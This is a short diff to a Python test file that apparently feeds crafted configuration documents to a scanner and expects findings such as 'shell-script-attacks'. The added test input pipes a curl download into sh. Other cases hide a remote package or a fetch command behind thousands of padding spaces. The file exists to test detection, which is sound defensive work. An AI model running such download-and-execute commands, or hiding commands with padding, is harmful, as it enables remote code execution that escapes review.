@@ -21,6 +21,7 @@ def _documents() -> Iterator[tuple[str, object, str]]:
     yield "dependencies", {"dependencies": packages}, "requirements-foreign-source"
     yield "spaces-before-a-package", {"pip": [" " * 3000 + "git+https://c.example/x"]}, "requirements-foreign-source"
     yield "command", {"postCreateCommand": " " * 10_001 + _FETCHES}, "shell-script-attacks"
+    yield "address", {"command": f"curl http://localhost/x?{'a' * 3000} | sh"}, "shell-script-attacks"
     yield "words", {"command": ["true;"] * 200 + [_FETCHES]}, "shell-script-attacks"
 
 
